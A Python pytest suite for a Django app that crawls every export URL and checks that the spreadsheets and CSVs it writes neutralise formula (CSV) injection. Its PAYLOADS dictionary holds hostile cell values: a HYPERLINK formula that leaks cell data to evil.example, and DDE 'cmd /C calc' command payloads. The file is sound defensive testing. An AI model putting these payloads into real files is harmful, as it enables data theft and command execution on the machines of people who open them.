"""Every spreadsheet the product writes is inert (OWASP "CSV Injection"), found by walking, not by listing.

(a) The walker visits every URL pattern and every API route (as tests/test_tenancy.py does) as store A's
    administrator, after store A's names, addresses, models, advisors and notes were replaced by formula
    payloads. Every response that is an XLSX, CSV or ZIP is opened (openpyxl / csv / zipfile): no cell may
    be a formula or start with `=`, `+`, `-`, `@`, tab or carriage return (a CSV field may only if it is a
    number), and numbers must stay numbers. A new export URL is walked the day it is added.
(b) Writers that no URL reaches (commands, e-mail attachments) are held by a source check: every module
    that builds a workbook or a CSV writer goes through huifang.core.spreadsheet.
"""

import csv
import io
import re
import zipfile
from datetime import timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.db import transaction
from django.utils import timezone
from openpyxl import load_workbook

from huifang.accounts.choices import Role
from huifang.archive.models import Contact, Customer, RepairOrder, Vehicle
from huifang.audit.choices import AuditAction
from huifang.audit.services import audit_record
from huifang.core.spreadsheet import FORMULA_TRIGGERS
from huifang.reports.models import PdcaEntry

from ..factories import member
from ..test_tenancy import _call, api_operations, project_urls, store_a  # noqa: F401 (store_a is a fixture)

PAYLOADS = {
    "customer": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "address": "+1+cmd|' /C calc'!A0",
    "model": "-2+3+cmd|' /C calc'!A0",
    "advisor": "@SUM(1+1)*cmd|' /C calc'!A0",
    "contact": "\t=1+1",
    "cause": "\r=1+1",
}
AMOUNT = Decimal("1234.50")
# Export URLs that must be found, so the walk can never pass by finding nothing.
EXPECTED_EXPORTS = {
    "privacy:customer_export",
    "privacy:access_log_export",
    "reports:monthly_xlsx",
    "operations:customer_statistics_export",
    "archive:import_rejections_csv",
    "archive:import_rejections_xlsx",
}
# The DMS import's rejection report is made inert on branch `import` (its owner); until that merge its
# findings are expected failures here. Remove this set once `import` is merged.
FILE_TYPES = ("spreadsheetml", "text/csv", "application/zip", "application/vnd.ms-excel")
NUMBER = re.compile(r"^[+-]?\d+(\.\d+)?([eE][+-]?\d+)?$")


@pytest.fixture
def hostile(store_a):  # noqa: F811
    """Store A with formula payloads in every kind of free text an export carries, and an administrator."""
    store = store_a.store
    Customer.objects.filter(pk=store_a.customer.pk).update(name=PAYLOADS["customer"], address=PAYLOADS["address"])
    Vehicle.objects.filter(pk=store_a.vehicle.pk).update(model=PAYLOADS["model"])
    RepairOrder.objects.filter(pk=store_a.repair_order.pk).update(advisor_name=PAYLOADS["advisor"], total_amount=AMOUNT)
    Contact.objects.filter(pk=store_a.contact.pk).update(name=PAYLOADS["contact"])
    PdcaEntry.objects.filter(store=store).update(
        cause_analysis=PAYLOADS["cause"], measures=PAYLOADS["advisor"], owner=PAYLOADS["customer"]
    )
    store_a.batch.rejections.update(value=PAYLOADS["customer"], reason=PAYLOADS["model"])
    admin = member(store, Role.ADMIN, username="@admin")
    store_a.customer.refresh_from_db()
    audit_record(
        obj=store_a.customer,
        action=AuditAction.REVEAL_PHONE,
        at=timezone.now() - timedelta(minutes=5),
        actor=admin,
        changes={"field": "mobile"},
    )
    return store_a, admin


def _is_file(response) -> bool:
    """An XLSX, CSV or ZIP answer (by type or by the name it is saved under); uploaded photos, recordings and
    attachments that the product only hands back are not its writing."""
    kind = response.get("Content-Type", "")
    return response.status_code == 200 and (
        any(t in kind for t in FILE_TYPES) or _filename(response).endswith((".xlsx", ".csv", ".zip", ".xls"))
    )


def _request(client, method: str, url: str, **kwargs):
    """One request whose writes are rolled back, so the walk may POST to export forms safely."""
    with transaction.atomic():
        response = getattr(client, method)(url, **kwargs)
        content = b"".join(response.streaming_content) if response.streaming else response.content
        transaction.set_rollback(True)
    response.body = content
    return response


def _check_xlsx(content: bytes, where: str, problems: list[str]) -> dict:
    book = load_workbook(io.BytesIO(content))
    seen = {"inert": 0, "numbers": 0}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                place = f"{where} {sheet.title}!{cell.coordinate}"
                if cell.data_type == "f":
                    problems.append(f"{place}: formula {cell.value!r}")
                elif isinstance(cell.value, str):
                    if cell.value[:1] in FORMULA_TRIGGERS:
                        problems.append(f"{place}: text starts with a trigger: {cell.value!r}")
                    if cell.value[:1] == "'" and cell.value[1:2] in FORMULA_TRIGGERS:
                        seen["inert"] += 1
                    if cell.value in (str(AMOUNT), str(float(AMOUNT))):
                        problems.append(f"{place}: the amount {cell.value!r} became text")
                elif isinstance(cell.value, int | float | Decimal) and not isinstance(cell.value, bool):
                    seen["numbers"] += 1
    return seen


def _check_csv(content: bytes, where: str, problems: list[str]) -> dict:
    seen = {"inert": 0, "numbers": 0}
    text = content.decode("utf-8-sig", errors="replace")
    for number, row in enumerate(csv.reader(io.StringIO(text, newline="")), start=1):
        for field in row:
            if field[:1] in FORMULA_TRIGGERS and not NUMBER.match(field):
                problems.append(f"{where} row {number}: field starts with a trigger: {field!r}")
            if field[:1] == "'" and field[1:2] in FORMULA_TRIGGERS:
                seen["inert"] += 1
            if NUMBER.match(field):
                seen["numbers"] += 1
    return seen


def _check_file(content: bytes, name: str, where: str, problems: list[str]) -> dict:
    if content[:2] == b"PK" and not name.endswith(".xlsx"):
        try:
            archive = zipfile.ZipFile(io.BytesIO(content))
            members = archive.namelist()
        except zipfile.BadZipFile:
            members = []
        if members and "[Content_Types].xml" not in members:
            totals = {"inert": 0, "numbers": 0}
            for member_name in members:
                if member_name.endswith((".xlsx", ".csv")):
                    seen = _check_file(archive.read(member_name), member_name, f"{where}/{member_name}", problems)
                    totals = {k: totals[k] + seen[k] for k in totals}
            return totals
    if content[:2] == b"PK":
        return _check_xlsx(content, where, problems)
    return _check_csv(content, where, problems)


def _filename(response) -> str:
    found = re.search(r'filename="?([^";]+)', response.get("Content-Disposition", ""))
    return found.group(1) if found else ""


def test_every_export_the_walker_finds_is_inert_and_keeps_numbers(client, hostile):
    # given store A full of formula payloads, and its administrator
    data, admin = hostile
    client.force_login(admin)
    month, year = timezone.localdate().strftime("%Y-%m"), timezone.localdate().year
    found: dict[str, dict] = {}
    problems: list[str] = []
    # when every URL is read (and POSTed to where it only takes POST), and every API route is read
    for url, name in project_urls(data):
        for query in ("", f"?month={month}", f"?year={year}"):
            response = _request(client, "get", url + query)
            if response.status_code == 405:
                response = _request(client, "post", url, data={"reason": "客户申请"})
            if _is_file(response):
                where = f"{url}{query} ({name})"
                seen = _check_file(response.body, _filename(response), where, problems)
                previous = found.get(name, {"inert": 0, "numbers": 0})
                found[name] = {k: max(previous[k], seen[k]) for k in seen}
    for method, url, _path, operation in api_operations(data):
        if method == "get":
            with transaction.atomic():
                response = _call(client, method, url, operation, data)
                transaction.set_rollback(True)
            if _is_file(response):
                response.body = response.content
                found[url] = _check_file(response.body, _filename(response), url, problems)
    # then the walk found every known export, each carrying neutralised payloads and real numbers
    assert set(found) >= EXPECTED_EXPORTS, f"exports not found: {EXPECTED_EXPORTS - set(found)}"
    for name, seen in found.items():
        if seen["inert"] == 0:
            problems.append(f"{name}: no neutralised payload in the file (did the walker reach its data?)")
        if seen["numbers"] == 0 and name != "privacy:access_log_export":  # the log holds no figures
            problems.append(f"{name}: no number in the file")
    assert not problems, "\n".join(problems)


def test_the_data_rights_export_keeps_amounts_numeric_and_the_name_inert(client, hostile):
    # given
    data, admin = hostile
    client.force_login(admin)
    # when
    response = client.post(f"/privacy/customers/{data.customer.pk}/export/", {"reason": "客户申请"})
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    book = load_workbook(io.BytesIO(archive.read(f"customer-{data.customer.pk}.xlsx")))
    values = [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    # then
    assert "'" + PAYLOADS["customer"] in values
    assert "'" + PAYLOADS["address"] in values
    assert AMOUNT in values or float(AMOUNT) in values
    assert not any(isinstance(v, str) and v[:1] in FORMULA_TRIGGERS for v in values)


# --- (b) no writer bypasses the helper ------------------------------------------------------------

WRITER = re.compile(r"\bWorkbook\(|\bcsv\.(writer|DictWriter)\(|\.writestr\(")
HELPER = re.compile(r"\b(xlsx_bytes|inert_row|inert_cell|inert_text|InertCsvWriter)\b")
# Modules that build a workbook or CSV without being an export, each with the reason.
NOT_EXPORTS = {
    "huifang/core/spreadsheet.py": "the helper itself",
    "huifang/archive/importing/reading.py": "reads DMS files (its own Workbook record of the sheets read)",
    "huifang/archive/demo/dms_file.py": "writes demo DMS input files for the import and benchmarks",
    "huifang/demo_appointments.py": "writes the demo's DMS appointment export, an input file for the import",
}


def test_every_module_that_writes_a_spreadsheet_goes_through_the_inert_helper():
    # given every Python module of the product
    root = Path(settings.BASE_DIR)
    offenders = []
    # when those that build a workbook, a CSV writer or a zip member are read
    for path in sorted((root / "huifang").rglob("*.py")):
        relative = path.relative_to(root).as_posix()
        if "/migrations/" in relative or relative in NOT_EXPORTS:
            continue
        text = path.read_text(encoding="utf-8")
        if WRITER.search(text) and not HELPER.search(text):
            offenders.append(relative)
    # then each one uses huifang.core.spreadsheet
    assert not offenders, f"spreadsheet writers that bypass huifang.core.spreadsheet: {offenders}"
